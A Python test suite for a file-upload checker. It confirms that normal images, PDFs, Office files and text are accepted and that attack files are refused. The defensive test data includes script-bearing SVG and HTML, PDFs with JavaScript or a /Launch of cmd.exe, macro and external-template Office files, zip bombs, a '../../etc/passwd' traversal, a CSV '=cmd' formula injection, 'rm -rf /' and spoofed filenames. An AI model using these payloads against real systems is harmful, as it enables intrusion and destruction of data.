"""What is handed in as a file: taken, made harmless, or refused with a sentence. A row for each attack."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest
from PIL import Image, PngImagePlugin

from yuanzhi.cases.attachments import DOOR, BadFile, clean_name, examine, small
from yuanzhi.cases.attachments.kinds import JPEG, PDF


def jpeg(size=(60, 40), exif=None, colour="#2a6"):
    out = io.BytesIO()
    picture = Image.new("RGB", size, colour)
    picture.save(out, "JPEG", **({"exif": exif} if exif else {}))
    return out.getvalue()


def png(size=(60, 40), mode="RGB", **info):
    out = io.BytesIO()
    Image.new(mode, size).save(out, "PNG", **info)
    return out.getvalue()


def pdf(body=b"<< /Type /Catalog >>", tail=b""):
    return b"%PDF-1.7\n1 0 obj\n" + body + b"\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF" + tail


CONTENT = b'<?xml version="1.0"?><Types><Override PartName="/word/document.xml"/></Types>'


def office(parts=None, main="word/document.xml", level=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", level) as archive:
        archive.writestr("[Content_Types].xml", CONTENT)
        archive.writestr(main, b"<w:document/>")
        for name, data in (parts or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


def located():
    """A picture that says where it was taken, by whose phone, and that it lies on its side."""
    exif = Image.Exif()
    exif[0x0112] = 6  # turned
    exif[0x010F] = "PhoneMaker"
    exif.get_ifd(0x8825)[2] = (30.0, 16.0, 28.0)
    return jpeg((60, 40), exif)


def lying_zip():
    """A part that claims a size of 300 MB (a bomb by its own account)."""
    data = bytearray(office({"word/media/a.xml": b"0" * 3_000_000}))
    return bytes(data)


def overlapping():
    """Two entries of the directory that share the same bytes."""
    data = office({"a.xml": b"A" * 500, "b.xml": b"B" * 500}, level=zipfile.ZIP_STORED)
    at = data.rfind(b"PK\x01\x02")
    first = data.find(b"PK\x01\x02")
    offset = data[first + 42 : first + 46]
    return data[: at + 42] + offset + data[at + 46 :]


TAKEN = [
    ("照片.jpg", jpeg(), "image/jpeg"),
    ("截图.png", png(mode="RGBA"), "image/png"),
    ("表.png", png(mode="P"), "image/png"),
    ("合同.pdf", pdf(), "application/pdf"),
    ("合同.pdf", pdf(tail=b"\r\n\x00\x00"), "application/pdf"),
    ("清单.docx", office(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("带内嵌表的.pptx", office({"ppt/embeddings/1.xlsx": b"xl/workbook.xml"}, "ppt/presentation.xml"), None),
    ("打印设置.xlsx", office({"xl/printerSettings/printerSettings1.bin": b"\0"}, "xl/workbook.xml"), None),
    ("说明.txt", "尾款三十八万，拖了五个月".encode(), "text/plain"),
    ("说明.txt", "尾款三十八万".encode("gb18030"), "text/plain"),
    ("说明.txt", "尾款三十八万".encode("utf-16"), "text/plain"),
    ("名单.csv", "姓名,电话\n张三,+86 13800001234\n李四,-".encode("gbk"), "text/csv"),
]


@pytest.mark.parametrize(
    ("name", "data", "mime"), TAKEN, ids=[f"{i}-{row[0]}" for i, row in enumerate(TAKEN)]
)
def test_what_people_send_is_taken(name, data, mime):
    file = examine(name, data)
    assert file.name == name
    assert mime is None or file.mime == mime
    assert file.sha256 == examine(name, data).sha256, "the same file twice has the same digest"


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><body onload=alert(1)></body></html>"
REFUSED = [
    ("svg with a script", "图.svg", SVG, "脚本"),
    ("svg called png", "图.png", SVG, "脚本"),
    ("svg behind a mark and spaces", "图.txt", b"\xef\xbb\xbf  \n" + SVG, "脚本"),
    ("svg in utf-16", "图.txt", SVG.decode().encode("utf-16"), "脚本"),
    ("a page called txt", "a.txt", HTML, "脚本"),
    ("a page behind a comment", "a.txt", b"hello <!-- --> <script>alert(1)</script>", "脚本"),
    ("a program", "报告.pdf", b"MZ\x90\x00" + b"\x00" * 200, "程序"),
    ("a program for Linux", "报告", b"\x7fELF" + b"\x00" * 200, "程序"),
    ("a script", "a.txt", b"#!/bin/sh\nrm -rf /", "脚本"),
    ("an old Office file, which may hold macros", "表.xls", b"\xd0\xcf\x11\xe0" + b"\x00" * 600, "老格式"),
    ("an archive", "包.zip", office(main="a.txt"), "解压"),
    ("an archive by another name", "包.rar", b"Rar!\x1a\x07\x00" + b"\x00" * 60, "解压"),
    ("a photo as iPhones keep it", "IMG.heic", b"\x00\x00\x00\x18ftypheic" + b"\x00" * 40, "兼容性"),
    ("a film", "v.mp4", b"\x00\x00\x00\x18ftypisom" + b"\x00" * 40, "音频或视频"),
    ("nothing", "空.pdf", b"", "空的"),
    ("too large", "大.txt", b"a" * (DOOR.size + 1), "最多"),
    ("PDF behind a page", "合同.pdf", HTML + pdf(), "PDF"),
    ("PDF with a page in it", "合同.pdf", pdf(b"<script>alert(1)</script>"), "网页"),
    ("PDF with an archive behind it", "合同.pdf", pdf(tail=office()), "结尾"),
    ("PDF with a program", "合同.pdf", pdf(b"<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"), "自动运行"),
    ("PDF with a program's name in code", "合同.pdf", pdf(b"<< /S /J#61vaScript >>"), "自动运行"),
    ("PDF that starts a program", "合同.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>"), "自动运行"),
    ("PDF that carries a file", "合同.pdf", pdf(b"<< /EmbeddedFiles 3 0 R >>"), "自动运行"),
    ("PDF with a program packed away", "合同.pdf",
     pdf(b"<< /Type /ObjStm /N 1 >> stream\n" + zlib.compress(b"1 0 << /S /JavaScript >>") + b"\nendstream"), "自动运行"),
    ("PDF cut off", "合同.pdf", pdf()[:40], "不完整"),
    ("Office with macros", "表.xlsx", office({"xl/vbaProject.bin": b"x"}, "xl/workbook.xml"), "宏"),
    ("Office with macros by another name", "表.docx", office({"word/_rels/a.rels": b"application/vnd.ms-word.macroEnabled"}), "宏"),
    ("Office with a program inside", "表.docx", office({"word/embeddings/oleObject1.bin": b"x"}), "宏"),
    ("Office that fetches a template", "表.docx", office({"word/_rels/settings.xml.rels":
     b'<Relationship Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>'}), "别处"),
    ("Office with entities", "表.docx", office({"_rels/.rels": b'<!DOCTYPE x [<!ENTITY a "aaaa">]>'}), "宏或不该有"),
    ("Office as a bomb", "表.docx", lying_zip(), "炸弹"),
    ("Office whose parts share bytes", "表.docx", overlapping(), "炸弹"),
    ("Office with ways out in its names", "表.docx", office({"../../etc/passwd": b"x"}), "文件名"),
    ("Office behind something else", "表.docx", b"GIF89a" + office(), "动图"),
    ("Office before something else", "表.docx", office() + HTML, "夹着|打不开"),
    ("Office cut off", "表.docx", office()[:-30], "没传完整"),
    ("a table with formulas", "名单.csv", "姓名,电话\n=cmd|'/c calc'!A1,1".encode(), "公式"),
    ("a table with formulas in quotes", "名单.csv", '姓名,"@SUM(A1)"'.encode(), "公式"),
    ("a picture cut off", "a.jpg", jpeg((400, 400))[:300], "打不开"),
]  # fmt: skip


@pytest.mark.parametrize(("what", "name", "data", "sentence"), REFUSED, ids=[row[0] for row in REFUSED])
def test_attacks_and_accidents_are_refused_in_a_sentence(what, name, data, sentence):
    with pytest.raises(BadFile, match=sentence) as no:
        examine(name, data, DOOR)
    assert str(no.value).startswith("“")


def test_a_bomb_of_a_picture_is_not_unpacked():
    head = png((10, 10))
    at = head.index(b"IHDR")
    header = b"IHDR" + struct.pack(">II", 60_000, 60_000) + head[at + 12 : at + 17]
    bomb = head[:at] + header + struct.pack(">I", zlib.crc32(header)) + head[at + 21 :]
    with pytest.raises(BadFile, match="像素"):
        examine("图.png", bomb)


def test_a_picture_keeps_nothing_but_the_picture():
    data = located()
    assert b"PhoneMaker" in data
    file = examine("IMG_0001.JPG", data)
    kept = Image.open(io.BytesIO(file.data))
    assert kept.size == (40, 60), "turned upright"
    assert not kept.getexif()
    assert b"PhoneMaker" not in file.data and b"Exif" not in file.data
    assert file.name == "IMG_0001.jpg"


def test_what_hides_in_or_behind_a_picture_is_gone():
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>alert(1)</script>", zip=False)
    data = png(pnginfo=info) + SVG + office()
    file = examine("图.png", data)
    assert b"script" not in file.data and b"PK\x03\x04" not in file.data
    jpg = jpeg() + HTML
    assert b"html" not in examine("a.jpg", jpg).data


def test_large_pictures_are_drawn_smaller_and_small_ones_made_on_the_way():
    file = examine("大图.jpg", jpeg((6000, 3000)))
    assert Image.open(io.BytesIO(file.data)).size == (2560, 1280)
    assert max(Image.open(io.BytesIO(small(file.data))).size) == 240
    assert Image.open(io.BytesIO(small(examine("a.png", png((900, 300), "RGBA")).data))).format == "JPEG"


NAMES = [
    ("../../etc/passwd", None, "passwd"),
    ("C:\\Users\\x\\合同.pdf", PDF, "合同.pdf"),
    ("..", None, "附件"),
    ("", JPEG, "附件.jpg"),
    (".htaccess", JPEG, "htaccess.jpg"),
    ("合同\x00.pdf", PDF, "合同.pdf"),
    ("a\r\nSet-Cookie: x.pdf", PDF, "aSet-Cookie_ x.pdf"),
    ("发票\u202egpj.exe", JPEG, "发票gpj.jpg"),  # reads as 发票exe.jpg
    ("发票.pdf.exe", JPEG, "发票.jpg"),
    ("图.svg", JPEG, "图.jpg"),
    ("CON.pdf", PDF, "_CON.pdf"),
    ("报价 v2.1 终版.pdf", PDF, "报价 v2.1 终版.pdf"),
    ("a" * 300 + ".pdf", PDF, "a" * 96 + ".pdf"),
    ("<b>x</b>.pdf", PDF, "b_.pdf"),
]


@pytest.mark.parametrize(("name", "kind", "clean"), NAMES)
def test_names_lead_nowhere(name, kind, clean):
    assert clean_name(name, kind) == clean
